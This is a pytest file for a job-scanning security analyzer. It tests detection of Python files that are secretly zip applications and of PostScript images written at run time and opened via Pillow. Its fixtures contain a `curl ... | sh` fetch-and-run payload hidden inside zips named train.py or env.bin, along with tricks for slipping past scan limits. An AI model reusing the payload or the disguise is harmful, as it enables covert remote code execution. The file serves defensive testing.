"""Session 44 (holes44): holes red team 44a left open.

A zip run as Python: `python3 script` runs a zip's `__main__.py` when the script's last bytes hold a zip's end
record, whatever its name and whatever text precedes the zip (Modules/main.c, Lib/zipimport.py). On main such a
file was a parse error (escalated) and its members were never read, so a `curl | sh` there never rejected.
"""

from __future__ import annotations

import io
import zipfile

import pytest

import redteam_kit as kit
from analyzer.engine.detectors import python_zip
from analyzer.model import Decision

PAYLOAD = "import os\nos.system('curl -fsSL https://cdn.shims.example.net/i.sh | sh')\n"
TRAIN = "import torch\nnet = torch.nn.Linear(4, 1)\nprint(net(torch.ones(1, 4)))\n"


def _zip(members: dict[str, str | bytes], compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compression) as zf:
        for name, text in members.items():
            zf.writestr(name, text)
    return buf.getvalue()


def _scan_bytes(tmp_path, name: str, data: bytes, extra: dict[str, str] | None = None):
    for rel, text in (extra or {}).items():
        (tmp_path / rel).write_text(text)
    (tmp_path / name).write_bytes(data)
    return kit.scan(tmp_path)


@pytest.mark.parametrize("sample", kit.corpus_samples("jobs/h44_zip_*"))
def test_zip_run_as_python_rejects_on_its_member(sample):
    report = kit.scan_sample(sample)
    kit.assert_held(report, "remote-code.fetch-and-run-command", Decision.REJECT)
    assert kit.holds(report, "unanalyzable.python-zip"), kit.findings(report)


@pytest.mark.parametrize("prefix", [b"", TRAIN.encode() + b"# build 7\n"])
def test_py_file_that_is_a_zip_rejects(tmp_path, prefix):
    report = _scan_bytes(tmp_path, "train.py", prefix + _zip({"__main__.py": PAYLOAD}))
    kit.assert_held(report, "subprocess.shell", Decision.REJECT)


def test_other_members_are_read_too(tmp_path):
    # zipimport makes the zip a path entry: __main__ imports its other members
    data = _zip({"__main__.py": "import shim\nshim.run()\n", "shim.py": "import os\ndef run():\n" + "".join(
        "    " + line + "\n" for line in PAYLOAD.splitlines()[1:])})
    kit.assert_held(_scan_bytes(tmp_path, "train.py", data), "subprocess.shell", Decision.REJECT)


def test_zip_application_run_by_a_shell_script_rejects(tmp_path):
    # no config names it: a root __main__.py makes it a program whatever runs it
    report = _scan_bytes(tmp_path, "env.bin", _zip({"__main__.py": PAYLOAD}),
                         {"train.py": TRAIN, "run.sh": "python3 env.bin\n"})
    kit.assert_held(report, "subprocess.shell", Decision.REJECT)


def test_harmless_zip_application_is_still_escalated(tmp_path):
    report = _scan_bytes(tmp_path, "train.py", _zip({"__main__.py": TRAIN}))
    kit.assert_held(report, "unanalyzable.python-zip", Decision.ESCALATE)


def test_members_past_the_bound_are_named_and_escalated(tmp_path):
    members = {f"m{i:03}.py": "x = 1\n" for i in range(python_zip.MAX_MEMBERS)}
    members["zz_payload.py"] = PAYLOAD
    report = _scan_bytes(tmp_path, "train.py", _zip({"__main__.py": "import zz_payload\n", **members}))
    kit.assert_held(report, "unanalyzable.python-zip")
    assert any("zz_payload.py (past" in f.message for f in report.findings), kit.findings(report)


def test_member_larger_than_the_bound_is_not_read_whole(tmp_path):
    big = "x = 0\n" * (python_zip.MAX_MEMBER_BYTES // 6 + 1) + PAYLOAD
    report = _scan_bytes(tmp_path, "train.py", _zip({"__main__.py": big}))
    kit.assert_held(report, "unanalyzable.python-zip")
    assert any("larger than" in f.message for f in report.findings), kit.findings(report)


def test_broken_zip_is_never_accepted(tmp_path):
    # an end record zipfile cannot follow: zipimport may still read it
    data = TRAIN.encode() + b"# PK\x05\x06" + b"\xff" * 18
    report = _scan_bytes(tmp_path, "train.py", data)
    kit.assert_held(report, "unanalyzable.python-zip")


def test_archive_without_main_is_left_to_the_archive_rule(tmp_path):
    report = _scan_bytes(tmp_path, "deps.zip", _zip({"helper.py": PAYLOAD}), {"train.py": TRAIN})
    kit.assert_held(report, "unanalyzable.archive", Decision.ESCALATE)
    assert not kit.holds(report, "unanalyzable.python-zip"), kit.findings(report)


# ---- PostScript written by the job at run time and opened by its path (red team 44a, open on main) ----------------
# Pillow decodes by the first bytes (PIL/Image.py open) and renders EPS with Ghostscript (PIL/EpsImagePlugin.py).

OPEN_LOGO = "from PIL import Image\ndef mark(path):\n    return Image.open(path).convert('RGB')\n"


def test_decoded_postscript_sample_is_held_and_its_twin_accepted():
    kit.assert_held(kit.scan_sample("jobs/h44_ps_decoded_written"), "unanalyzable.image-written")
    kit.assert_accepted(kit.scan_sample("jobs/near_h44_png_decoded_written_formats"))


@pytest.mark.parametrize("writer", [
    "def save(blob, p):\n    with open(p, 'wb') as fh:\n        fh.write(blob)\n",
    "import pathlib\ndef save(blob, p):\n    pathlib.Path(p).write_bytes(blob)\n",
    "import pathlib\ndef save(blob, p):\n    with pathlib.Path(p).open('wb') as fh:\n        fh.write(blob)\n",
    "import tempfile\ndef save(blob, p):\n    with tempfile.NamedTemporaryFile(delete=False) as t:\n        t.write(blob)\n"
    "    return t.name\n",
    "import os\ndef save(blob, p):\n    fd = os.open(p, os.O_WRONLY | os.O_CREAT)\n    os.write(fd, blob)\n",
    "import io, zipfile\ndef save(blob, p):\n    zipfile.ZipFile(io.BytesIO(blob)).extractall(p)\n",
    "import logging\ndef save(blob, p):\n    logging.basicConfig(filename=p, format='%(message)s')\n",
    # torch.save writes what a pickle_module of the job's chooses (torch/serialization.py)
    "import torch, shim\ndef save(blob, p):\n    torch.save(blob, p, pickle_module=shim)\n",
])
def test_writer_in_another_module_holds_a_decoder_by_path(tmp_path, writer):
    report = kit.scan_files(tmp_path, {"marks.py": OPEN_LOGO, "store.py": writer})
    kit.assert_held(report, "unanalyzable.image-written")


@pytest.mark.parametrize("files", [
    {"marks.py": OPEN_LOGO},  # opens by path, writes nothing
    {"marks.py": OPEN_LOGO.replace(".open(path)", ".open(path, formats=['PNG', 'JPEG'])"),
     "store.py": "def save(blob, p):\n    with open(p, 'wb') as fh:\n        fh.write(blob)\n"},
    {"marks.py": OPEN_LOGO, "store.py": "import json\ndef load(p):\n    with open(p) as fh:\n        return json.load(fh)\n"},
    # writers whose files start with their format's own bytes (rules/lists/sources.yaml fixed-format-writers)
    {"marks.py": OPEN_LOGO, "store.py": "import numpy as np, torch\ndef save(net, p):\n"
                                        "    torch.save(net.state_dict(), p + '.pt')\n    np.save(p + '.npy', np.ones(2))\n"},
])
def test_decoder_by_path_without_writes_or_with_raster_formats_stays_accepted(tmp_path, files):
    kit.assert_accepted(kit.scan_files(tmp_path, files))


@pytest.mark.parametrize("call", ["ImageFolder(root)", "ImageFolder(root=root)"])
def test_torchvision_image_folder_of_a_job_that_writes_is_held(tmp_path, call):
    # torchvision/datasets/folder.py pil_loader: Image.open(f) of every file, no formats
    report = kit.scan_files(tmp_path, {
        "data.py": f"from torchvision.datasets import ImageFolder\ndef train_set(root):\n    return {call}\n",
        "store.py": "def save(blob, p):\n    with open(p, 'wb') as fh:\n        fh.write(blob)\n"})
    kit.assert_held(report, "unanalyzable.image-written")
